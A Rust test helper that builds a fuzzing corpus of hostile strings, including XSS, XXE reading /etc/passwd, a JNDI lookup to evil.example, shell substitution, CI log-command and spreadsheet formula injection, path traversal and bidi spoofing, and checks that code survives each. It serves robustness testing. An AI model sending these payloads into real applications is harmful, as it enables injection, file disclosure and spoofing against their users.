//! Hostile text: what somebody might write to change what an answer means.

/// What somebody might write into a title, a path, a tag, a note or a value.
pub fn corpus() -> Vec<String> {
    let texts = [
        "\u{1b}[31mred\u{1b}[0m \u{1b}]0;title\u{7}",
        "\u{1b}]8;;https://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
        "\u{9b}2J\u{90}x\u{9c}",
        "]]> <![CDATA[x]]>",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "</testsuite><testsuite name=\"x\"/>",
        "<!-- --> <!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]> &y;",
        "it's \"quoted\" `code` \\ \\\\",
        "two\nlines\r\nand\rmore",
        "\n::error::injected",
        "nul\u{0}byte",
        "\u{202e}txt.exe\u{2066}\u{2069}\u{200b}\u{feff}",
        "\u{fffe}\u{ffff}\u{fdd0}\u{1fffe}",
        "\u{2028}\u{2029}\u{85}\u{b}\u{c}",
        "${jndi:ldap://evil.example/x} $HOME $(reboot) `reboot` %PATH%",
        "::set-output name=version::9.9.9",
        "::stop-commands::x",
        "##vso[task.setvariable variable=x]y",
        "##[error]x ##teamcity[message text='x']",
        "relmap\nrelmap_\nversion<<EOF\n9\nEOF",
        "a | b || c \\| d \\\\| e",
        "``` | ~~~ | `` a ``",
        "# heading",
        "- item\n1. item\n> quote",
        "[link](https://evil.example) ![i](https://evil.example/i.png) [x]: https://evil.example",
        "[[wiki]] [^1] :smile: $x^2$ ~~no~~ ==yes== ||spoiler||",
        "@everyone me@evil.example #12 GH-12 !3 ~bug %1 &2 *iteration",
        "https://evil.example www.evil.example mailto:x@evil.example javascript:alert(1)",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "https://me:s3cret@git.example/app.git",
        "https://git.example/?access_token=s3cret",
        "postgres://me:s3cret@db/x?sslmode=require",
        "key=value # comment ! comment : x",
        "  blanks around  ",
        "../../../etc/passwd",
        "C:\\temp\\a,b:c%0A::error::x",
        "a.b.c/d?e#f%20g h",
        "",
        ".",
        "ünïcödé 漢字 🚀 e\u{301}",
    ];
    let mut corpus: Vec<String> = texts.iter().map(|text| (*text).to_owned()).collect();
    // Halves of a surrogate pair, as bytes that are no UTF-8.
    corpus.push(String::from_utf8_lossy(b"\xed\xa0\x80\xed\xb0\x80\xff").into_owned());
    corpus
}

/// Runs a check for each text, and names the one that fails.
pub fn for_each(check: impl Fn(&str)) {
    for said in corpus() {
        let name: String = said.chars().take(60).collect();
        let checked = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| check(&said)));
        assert!(checked.is_ok(), "for the text {name:?}");
    }
}
